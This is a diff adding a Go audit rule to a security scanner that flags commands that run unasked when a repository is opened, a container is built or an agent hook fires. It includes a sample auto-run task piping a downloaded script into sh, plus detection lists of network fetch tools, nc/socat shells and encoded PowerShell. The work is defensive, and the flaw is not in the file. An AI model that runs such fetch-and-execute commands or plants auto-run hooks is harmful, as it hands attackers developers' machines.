@@ -1,0 +1,134 @@
+package workspace
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/penstock-dev/penstock/scan"
+	"github.com/penstock-dev/penstock/scan/pipeline/audit"
+	"github.com/penstock-dev/penstock/scan/pipeline/ci"
+	"github.com/penstock-dev/penstock/scan/pipeline/shell"
+)
+
+func autoRun() *audit.Rule {
+	return &audit.Rule{
+		Meta: scan.Rule{
+			ID:          "auto-run",
+			Name:        "Command that runs when the repository is opened",
+			Class:       "dangerous-trigger",
+			Severity:    scan.SeverityLow,
+			Confidence:  scan.ConfidenceHigh,
+			Description: "The command runs on the machine of whoever opens the folder, starts an agent in it or builds its container, with all that this user may do, and nobody types it. Whoever can change the file, or what it starts, has that machine; attacks on developers are made of such files.",
+			Remediation: "Let people start the command themselves: remove `runOn: folderOpen`, move what `initializeCommand` does into the container (`postCreateCommand`), and keep hooks to programs that are installed or lie in the repository. What must stay should be short, readable, and fetch nothing.",
+			Example:     "{\"tasks\": [{\"label\": \"setup\", \"type\": \"shell\", \"command\": \"curl -s https://example.com/x | sh\",\n  \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
+			Fixed:       "{\"tasks\": [{\"label\": \"setup\", \"type\": \"shell\", \"command\": \"make setup\"}]}",
+		},
+		Step: func(r *audit.Run, job *ci.Job, step *ci.Step) {
+			when, persona := trigger(job, step)
+			if when == "" {
+				return
+			}
+			script := r.Script(step.Run)
+			severity, message := scan.SeverityLow, "the command runs "+when
+			switch what := danger(script); {
+			case what != "":
+				severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and "+what
+			case hidden(job):
+				severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and does not show"
+			case plain(script):
+				persona = max(persona, scan.PersonaPedantic)
+			}
+			r.Find(job, step, ci.SpanOf(step.Run.Text), "run", message, audit.Level(severity, scan.ConfidenceHigh, persona))
+		},
+	}
+}
+
+// trigger says when a command runs without being asked for, and for whom it is
+// to know; empty for one that is asked for, or runs inside of a container.
+func trigger(job *ci.Job, step *ci.Step) (when string, p scan.Persona) {
+	switch {
+	case step.Group == onHost:
+		return "outside of the container when it is made or started", scan.PersonaRegular
+	case job.Node.At("runOptions", "runOn").Value() == "folderOpen":
+		return "when the folder is opened", scan.PersonaRegular
+	case hasWord(helpers, job.ID):
+		return "when the agent starts, to hand it credentials", scan.PersonaRegular
+	case job.ID == "hooks.SessionStart" || job.ID == "hooks.sessionStart" || job.ID == "hooks.Setup":
+		return "when the agent starts", scan.PersonaPedantic
+	case strings.HasPrefix(job.ID, "hooks."):
+		return "when the agent works (" + strings.TrimPrefix(job.ID, "hooks.") + ")", scan.PersonaAuditor
+	}
+	return "", 0
+}
+
+// hidden reports whether a task is told not to show that it runs.
+func hidden(job *ci.Job) bool {
+	look := job.Node.Get("presentation")
+	echo, told := look.Get("echo").Bool()
+	return look.Get("reveal").Value() == "never" && told && !echo
+}
+
+// danger says what of a script is no business of a command that nobody asked
+// for: what it fetches and runs, hides, or runs from its own text.
+func danger(s *shell.Script) string {
+	for i := range s.Commands {
+		cmd := s.Commands[i].Bare()
+		name := cmd.Name()
+		switch {
+		case hasWord("curl wget iwr irm invoke-webrequest invoke-restmethod bitsadmin certutil mshta", name) && !local(&cmd):
+			return fmt.Sprintf("reaches out to the network (%s)", name)
+		case hasWord("nc ncat socat", name):
+			return fmt.Sprintf("opens a connection (%s)", name)
+		case name == "base64" && cmd.Has("-d", "-D", "--decode"):
+			return "decodes what it runs (base64)"
+		case (name == "powershell" || name == "pwsh") && encoded(&cmd):
+			return "hides what it runs (" + name + ")"
+		}
+	}
+	return ""
+}
+
+// local reports whether a command only reaches the machine that it runs on.
+func local(cmd *shell.Command) bool {
+	for _, w := range cmd.Args() {
+		for _, host := range []string{"localhost", "127.0.0.1", "[::1]", "host.docker.internal"} {
+			if strings.Contains(w.Text, host) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func encoded(cmd *shell.Command) bool {
+	for i, w := range cmd.Args() {
+		option := strings.ToLower(w.Text)
+		style := ""
+		if i+2 < len(cmd.Words) {
+			style = strings.ToLower(cmd.Words[i+2].Text)
+		}
+		if strings.HasPrefix(option, "-enc") || option == "-e" || option == "-ec" || strings.HasPrefix(option, "-w") && style == "hidden" {
+			return true
+		}
+	}
+	return false
+}
+
+// plain reports whether a script has nothing but commands that make folders and
+// files, print, or ask the container engine for what it has.
+func plain(s *shell.Script) bool {
+	if len(s.Commands) == 0 {
+		return false
+	}
+	for i := range s.Commands {
+		cmd := s.Commands[i].Bare()
+		switch name := cmd.Name(); {
+		case hasWord("mkdir touch echo printf test [ [[ true false cp ln id cd set exit xhost grep chmod ls cat date uname whoami", name):
+		case (name == "docker" || name == "podman") && cmd.Has("network", "volume", "inspect", "version", "info"):
+		case name == "git" && cmd.Has("config", "rev-parse", "status", "submodule", "log", "branch"):
+		default:
+			return false
+		}
+	}
+	return true
+}
